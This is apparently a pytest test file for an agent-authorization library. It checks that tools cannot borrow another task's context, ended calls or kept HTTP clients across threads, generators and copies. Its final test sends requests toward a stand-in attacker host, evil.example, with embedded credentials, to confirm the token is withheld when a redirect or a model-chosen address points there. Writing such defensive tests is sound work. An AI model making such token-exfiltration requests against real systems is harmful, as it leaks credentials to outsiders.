"""Attacks on whose work it is: a tool that takes another task's context, call or client where it does not belong.

Python lets code of one process do anything to other code of it. What must hold is that a handle that was
kept is closed, that work is counted and recorded for the task whose authority it had, and for no other.
"""

from __future__ import annotations

import contextvars
import copy
import pickle
import threading
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import anyio
import anyio.to_thread
import pytest
from tests.support.agent_pair import ORDER, Pair
from tests.support.agent_world import AgentWorld

from spiffe_client.agents import Call, Task, bind, current_call, current_task, guard
from spiffe_client.errors import DeniedError, NoTaskError, TaskEndedError, TaskError, TokenOriginError

pytestmark = pytest.mark.anyio

READ = "invoices:read"


@guard(requires=READ, resource="tenants/{tenant}/invoices/{invoice}")
def read(invoice: str) -> str:
    return current_task().tenant


def task_of(world: AgentWorld, tenant: str = "acme") -> Task:
    return world.host.task("close the March books", [READ, "summarize"], tenant=tenant)


def whose(world: AgentWorld) -> list[object]:
    """For whom calls were made, in their order."""
    return [facts["tenant"] for facts in world.told("call.finished")]


class TestThreads:
    async def test_a_thread_of_its_own(self, world: AgentWorld) -> None:
        """A tool starts a thread of its own and works there.

        It works for nobody there, so nothing is done.
        """
        said: list[BaseException] = []

        def work() -> None:
            try:
                read("7")
            except NoTaskError as error:
                said.append(error)

        async with task_of(world):
            thread = threading.Thread(target=work)
            thread.start()
            thread.join()
        assert [NoTaskError] == [type(error) for error in said]
        assert [] == whose(world)
        assert ["no_task"] == world.reasons

    async def test_a_pool_that_two_tasks_share(self, world: AgentWorld) -> None:
        """Two tasks share a pool of threads: its worker still has the first one's work.

        It knows nothing of the first task when the second one comes.
        """
        with ThreadPoolExecutor(1) as pool:
            async with task_of(world, "acme"):
                assert "acme" == pool.submit(bind(read), "7").result()
            async with task_of(world, "globex"):
                with pytest.raises(NoTaskError):
                    pool.submit(read, "7").result()
                assert "globex" == pool.submit(bind(read), "7").result()
        assert (["acme", "globex"], ["no_task"]) == (whose(world), world.reasons)

    async def test_a_thread_that_outlives_its_task(self, world: AgentWorld) -> None:
        """A thread that was given a task's context uses it after the task's end.

        The task is over, and so is what it could do.
        """
        async with task_of(world):
            later = bind(read)
        with pytest.raises(TaskEndedError):
            await anyio.to_thread.run_sync(later, "7")
        assert ["task_ended"] == world.reasons


class TestContexts:
    async def test_a_copied_context_of_a_task_that_is_over(self, world: AgentWorld) -> None:
        """Keep a copy of a task's context, and use it after the task's end.

        What is in it is a handle, and the handle is closed.
        """
        async with task_of(world):
            kept = contextvars.copy_context()
        with pytest.raises(TaskEndedError):
            kept.run(read, "7")
        assert ["task_ended"] == world.reasons

    async def test_a_copied_context_of_another_task(self, world: AgentWorld) -> None:
        """Use a copy of another task's context while both work.

        It gives that task's authority, which is counted and told as its own; ours is not wider by it.
        """
        async with task_of(world, "acme") as theirs:
            kept = contextvars.copy_context()
            async with task_of(world, "globex") as ours:
                assert "acme" == kept.run(read, "7")
                assert "globex" == read("8")
                with pytest.raises(DeniedError):
                    async with ours.call(READ, "tenants/acme/invoices/7"):
                        pass
                assert (1, 2) == (theirs.budget.spent, ours.budget.spent)
        assert ["acme", "globex"] == whose(world)
        assert ["tenant_boundary"] == world.reasons

    async def test_a_callback_that_was_registered_inside(self, world: AgentWorld) -> None:
        """Register a callback in one task, and have another one call it.

        Plain, it works for whoever calls it; bound to its own task, which is over, for nobody.
        """
        callbacks: list[Any] = []
        async with task_of(world, "acme"):
            callbacks += [lambda: read("7"), bind(lambda: read("7"))]
        async with task_of(world, "globex"):
            assert "globex" == callbacks[0]()
            with pytest.raises(TaskEndedError):
                callbacks[1]()
        assert (["globex"], ["task_ended"]) == (whose(world), world.reasons)

    async def test_a_generator_made_for_another_task(self, world: AgentWorld) -> None:
        """Make a generator in one task, and draw from it in another.

        Each step works for whoever asks for it, not for who made it.
        """

        def reads() -> Iterator[str]:
            while True:
                yield read("7")

        async with task_of(world, "acme"):
            smuggled = reads()
            assert "acme" == next(smuggled)
        async with task_of(world, "globex"):
            assert "globex" == next(smuggled)
        with pytest.raises(NoTaskError):
            next(smuggled)
        assert (["acme", "globex"], ["no_task"]) == (whose(world), world.reasons)

    async def test_an_async_generator_made_for_another_task(self, world: AgentWorld) -> None:
        """The same with an asynchronous generator.

        The same.
        """

        async def reads() -> AsyncIterator[str]:
            while True:
                yield read("7")

        async with task_of(world, "acme"):
            smuggled = reads()
            assert "acme" == await anext(smuggled)
        async with task_of(world, "globex"):
            assert "globex" == await anext(smuggled)
        with pytest.raises(NoTaskError):
            await anext(smuggled)
        await smuggled.aclose()
        assert (["acme", "globex"], ["no_task"]) == (whose(world), world.reasons)

    async def test_a_generator_that_holds_a_task_open(self, world: AgentWorld) -> None:
        """A generator holds a task open, and leaves it in the wrong order.

        It fails, and its task ends with all it has.
        """

        async def holding() -> AsyncIterator[Task]:
            async with task_of(world, "acme") as task:
                yield task

        smuggled = holding()
        task = await anext(smuggled)
        async with task_of(world, "globex"):
            with pytest.raises(BaseException):  # noqa: B017, PT011 - whatever each kind of loop says
                await smuggled.aclose()
                await anyio.lowlevel.checkpoint()
                raise TaskError("trio says so later")
        assert task.ended is not None
        with pytest.raises(TaskEndedError):
            async with task.call("summarize"):
                pass
        assert "task_ended" in world.reasons


class TestHandles:
    async def test_a_call_that_was_kept(self, world: AgentWorld) -> None:
        """Keep a call after its end: for its client, its credentials, or to make it again.

        It hands out nothing any more, in its own task or another.
        """
        kept: list[Call] = []
        async with task_of(world) as task:
            async with task.call("summarize") as call:
                kept.append(current_call())
            for look in (lambda c: c.http, lambda c: c.http_sync, lambda c: c.auth):
                with pytest.raises(TaskError, match="has ended"):
                    look(kept[0])
            with pytest.raises(TaskError, match="made before"):
                await kept[0].__aenter__()
        assert kept == [call]
        assert ["call_ended"] == [facts["reason"] for facts in world.told("credential.withheld")]
        assert ["ok"] == [facts["outcome"] for facts in world.told("call.finished")]

    @pytest.mark.parametrize("take", [copy.copy, copy.deepcopy, pickle.dumps], ids=["copy", "deepcopy", "pickle"])
    async def test_a_call_or_task_that_is_copied(self, world: AgentWorld, take: Any) -> None:
        """Copy or pickle a call or a task.

        A copy would not end with it, so there is none.
        """
        async with task_of(world) as task:
            async with task.call("summarize") as call:
                for thing in (call, task):
                    with pytest.raises(TypeError, match="cannot be pickled or copied"):
                        take(thing)
        assert ["copied"] == [facts["reason"] for facts in world.told("credential.withheld")]
        assert ["ok"] == [facts["outcome"] for facts in world.told("call.finished")]

    @pytest.mark.parametrize("blocking", [False, True])
    async def test_a_client_that_was_kept(self, pair: Pair, blocking: bool) -> None:
        """Keep the HTTP client of a call, and send with it: with its credentials, with others, with none.

        Nothing is sent: also what mutual TLS says about us is authority.
        """
        url = f"{pair.service.url}/v1/orders"
        async with pair.task() as task:
            async with task.call("orders:read", ORDER) as call:
                http: Any = call.http_sync if blocking else call.http
            answers = pair.service.answers.total()
            for options in ({}, {"auth": None}, {"auth": ("user", "password")}):
                with pytest.raises(TaskError, match="has ended"):
                    if blocking:
                        await anyio.to_thread.run_sync(lambda o=options: http.get(url, **o))
                    else:
                        await http.get(url, **options)
        with pytest.raises(TaskEndedError):
            await anyio.to_thread.run_sync(http.get, url) if blocking else await http.get(url)
        assert answers == pair.service.answers.total()
        assert ["call_ended", "task_ended"] == [facts["reason"] for facts in pair.told("credential.withheld")]
        assert ["ok"] == [facts["outcome"] for facts in pair.told("call.finished")]

    async def test_a_token_for_somebody_else(self, pair: Pair) -> None:
        """Have a redirect, or an address that a model chose, carry the token elsewhere.

        It is not sent there.
        """
        async with pair.task() as task:
            async with task.call("orders:read", ORDER) as call:
                reply = await call.http.get(f"{pair.service.url}/redirect", params={"to": "https://evil.example/"})
                assert 307 == reply.status_code
                with pytest.raises(TokenOriginError):
                    await call.http.get("https://user:hunter2@evil.example/a/canary?b=canary")
        (facts,) = pair.told("credential.withheld")
        assert ("credential.withheld", "token_origin") == ("credential.withheld", facts["reason"])
        assert (call.id, "https://evil.example") == (facts["call"], facts["origin"])
        assert not any("canary" in repr(event) or "hunter2" in repr(event) for event in pair.audit)
        assert ["ok"] == [facts["outcome"] for facts in pair.told("call.finished")]
